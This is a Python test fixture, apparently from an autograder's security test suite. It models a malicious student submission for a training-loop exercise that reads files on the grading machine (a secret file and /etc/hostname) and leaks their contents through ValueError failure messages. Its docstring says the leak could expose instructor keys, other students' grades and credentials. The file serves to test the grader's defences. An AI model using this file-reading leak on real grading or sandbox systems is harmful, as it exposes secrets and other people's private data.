"""Class: reading files of the grading machine with the open() that the training-loop exercise
may use (it writes and reads its own weight files), and sending their text back inside failure
messages, which the report and the terminal carry to the student.

Gain: exfiltration of anything the grading user may read that the guard does not list as
hidden: keys and tokens under the instructor's home, other students' submissions and grades,
configuration with credentials.
"""

# ruff: noqa
EXERCISE = "training_loop"
BASE = "stub"
WITNESSES = ["inplace_updates"]

# --- attack ---


def _loot():
    found = []
    for path in ("@OUTSIDE@/secret.txt", "/etc/hostname"):
        try:
            with open(path, encoding="utf-8") as handle:
                found.append(handle.read(400))
        except OSError as exc:
            found.append(f"{path}: {exc}")
    return " | ".join(found)


def make_model(in_dims, hidden_dims, out_dims):
    raise ValueError(_loot())


def loss_fn(model, x, y):
    raise ValueError(_loot())
